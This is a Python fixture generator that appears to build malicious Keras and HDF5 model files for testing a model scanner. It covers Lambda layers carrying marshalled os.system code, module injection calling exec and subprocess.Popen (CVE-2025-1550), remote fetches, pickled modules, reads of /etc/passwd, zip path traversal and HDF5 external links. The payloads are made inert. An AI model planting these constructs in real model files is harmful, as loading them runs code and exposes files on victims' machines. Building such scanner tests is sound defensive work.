"""Keras v3 archives and HDF5 models whose configuration runs code."""
import base64
import io
import json
import marshal

from kit import ECHO, evil, zipped

METADATA = {"keras_version": "3.8.0", "date_saved": "2026-01-02@03:04:05"}


def code():
    return base64.b64encode(marshal.dumps(compile("lambda x: __import__('os').system('echo inert')", "inert", "eval").co_consts[0])).decode()


def layer(class_name, config, module="keras.layers", **more):
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None, **more}


def sequential(*layers):
    first = layer("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "sparse": False, "name": "input"})
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "sequential", "trainable": True, "dtype": "float32", "layers": [first, *layers]}, "registered_name": None}


def lambda_layer(module="keras.layers"):
    return layer("Lambda", {"name": "l", "trainable": True, "dtype": "float32", "function": {"class_name": "__lambda__", "config": {"code": code(), "defaults": None, "closure": None}}}, module)


def weights():
    import h5py
    made = io.BytesIO()
    with h5py.File(made, "w") as file:
        file.create_group("layers/dense/vars").create_dataset("0", data=[[0.5] * 2] * 4)
    return made.getvalue()


def keras(config, metadata=METADATA, *more):
    return zipped(("metadata.json", json.dumps(metadata).encode()), ("config.json", json.dumps(config).encode()), ("model.weights.h5", weights()), *more)


def h5(config, **attributes):
    import h5py
    made = io.BytesIO()
    with h5py.File(made, "w") as file:
        file.attrs["keras_version"], file.attrs["backend"], file.attrs["model_config"] = "2.11.0", "tensorflow", json.dumps(config)
        for name, value in attributes.items():
            file.attrs[name] = value
        group = file.create_group("model_weights/dense/dense")
        group.create_dataset("kernel:0", data=[[0.5] * 2] * 4)
    return made.getvalue()


def old(*layers):
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": [{"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "input"}}, *layers]}}


def old_lambda():
    return {"class_name": "Lambda", "config": {"name": "l", "trainable": True, "dtype": "float32", "function": [code(), None, None], "function_type": "lambda", "module": "__main__", "output_shape": None, "arguments": {}}}


def make(s):
    import h5py
    mal = s.mal
    peers = "peers' comparison"
    inner = sequential(lambda_layer())
    mal("k01-lambda.keras", keras(inner), "Lambda", peers)
    mal("k02-nested.keras", keras(sequential(sequential(sequential(lambda_layer())))), "Lambda in a nested model", peers)
    mal("k03-wrapped.keras", keras(sequential(layer("TimeDistributed", {"name": "t", "layer": lambda_layer()}))), "Lambda inside TimeDistributed", peers)
    mal("lambda-bidirectional.keras", keras(sequential(layer("Bidirectional", {"name": "b", "layer": lambda_layer(), "merge_mode": "concat"}))), "Lambda inside Bidirectional")
    mal("lambda-old-version.keras", keras(inner, {"keras_version": "2.11.0", "date_saved": "x"}), "Lambda, metadata with an old version")
    mal("lambda-no-metadata.keras", zipped(("config.json", json.dumps(inner).encode()), ("model.weights.h5", weights())), "Lambda, no metadata")
    mal("lambda-module-core.keras", keras(sequential(lambda_layer("keras.src.layers.core.lambda_layer"))), "Lambda by its inner module")
    mal("k04-cve-2025-1550.keras", keras(sequential(layer("Dense", {"name": "d", "units": 2, "activation": {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}}))), "module injection (CVE-2025-1550)", "CVE-2025-1550")
    mal("cve-2025-1550-os.keras", keras(sequential({"module": "os", "class_name": "system", "config": ECHO, "registered_name": "system"})), "class from module os (CVE-2025-1550)", "CVE-2025-1550")
    mal("cve-2025-1550-inbound.keras", keras({"module": "keras", "class_name": "Functional", "config": {"name": "m", "layers": [layer("Lambda", {"name": "l", "function": {"module": "subprocess", "class_name": "function", "config": "Popen", "registered_name": "function"}, "arguments": {"args": ["echo", "inert"]}}, inbound_nodes=[{"args": [], "kwargs": {}}])], "input_layers": [], "output_layers": []}, "registered_name": "Functional"}), "subprocess.Popen in a Functional model (CVE-2025-1550)", "CVE-2025-1550")
    mal("k05-cve-2025-8747.keras", keras(sequential(layer("Lambda", {"name": "l", "function": {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"}, "arguments": {"origin": "http://127.0.0.1:9/inert", "cache_dir": "/tmp"}}))), "get_file (CVE-2025-8747)", "CVE-2025-8747")
    mal("load-model.keras", keras(sequential(layer("Dense", {"name": "d", "units": 2, "activation": {"module": "keras.saving", "class_name": "function", "config": "load_model", "registered_name": "function"}}))), "another model is loaded by the configuration")
    mal("torch-module-wrapper.keras", keras(sequential(layer("TorchModuleWrapper", {"name": "t", "module": base64.b64encode(evil()).decode()}))), "pickled module in TorchModuleWrapper (CVE-2025-49655)", "CVE-2025-49655")
    mal("stringlookup-file.keras", keras(sequential(layer("StringLookup", {"name": "s", "vocabulary": "/etc/passwd", "num_oov_indices": 1}))), "vocabulary read from a file of the machine (CVE-2025-12058)", "CVE-2025-12058")
    mal("stringlookup-url.keras", keras(sequential(layer("StringLookup", {"name": "s", "vocabulary": "http://127.0.0.1:9/inert", "num_oov_indices": 1}))), "vocabulary fetched from an address (CVE-2025-12058)", "CVE-2025-12058")
    mal("pickle-member.keras", keras(sequential(), METADATA, ("assets/vocabulary.pkl", evil())), "pickle among the assets")
    mal("traversal.keras", keras(sequential(), METADATA, ("../../inert.py", b"print('inert')\n")), "member named to leave the folder")
    mal("two-configs.keras", keras(sequential(), METADATA, ("config.json", json.dumps(inner).encode())), "two configurations, the second with a Lambda")
    mal("k06-lambda.h5", h5(old(old_lambda())), "HDF5 Lambda (CVE-2024-3660)", peers)
    mal("k07-nested.h5", h5(old(old(old_lambda()))), "HDF5 Lambda in a nested model", peers)
    mal("wrapped.h5", h5(old({"class_name": "TimeDistributed", "config": {"name": "t", "layer": old_lambda()}})), "HDF5 Lambda inside TimeDistributed")
    mal("training-config.h5", h5(old(), training_config=json.dumps({"loss": {"class_name": "__lambda__", "config": [code(), None, None]}})), "code in the training configuration")
    mal("custom-loss.h5", h5(old({"class_name": "Dense", "config": {"units": 2, "activation": {"class_name": "__lambda__", "config": {"code": code()}}}})), "lambda as an activation")
    mal("pickled-attribute.h5", h5(old(), optimizer_state=evil(0).decode("latin-1")), "pickle as an attribute")
    path = s.path("malicious", "k08-external-link.h5", "external link to another file", peers)
    with h5py.File(path, "w") as file:
        file["weights"] = h5py.ExternalLink("/etc/passwd", "/")
    path = s.path("malicious", "external-storage.h5", "data set whose bytes are another file's")
    with h5py.File(path, "w") as file:
        file.create_dataset("weights", shape=(16,), dtype="u1", external=[("/etc/passwd", 0, 16)])
    path = s.path("malicious", "virtual.h5", "virtual data set over another file")
    with h5py.File(path, "w") as file:
        layout = h5py.VirtualLayout(shape=(4,), dtype="f4")
        layout[:] = h5py.VirtualSource("/etc/inert.h5", "data", shape=(4,))
        file.create_virtual_dataset("weights", layout)
    path = s.path("malicious", "pickled-dataset.h5", "pickle in a data set")
    with h5py.File(path, "w") as file:
        import numpy
        file.create_dataset("model", data=numpy.void(evil()))
    mal("k-lambda.json", json.dumps(inner), "Keras configuration with a Lambda, on its own")
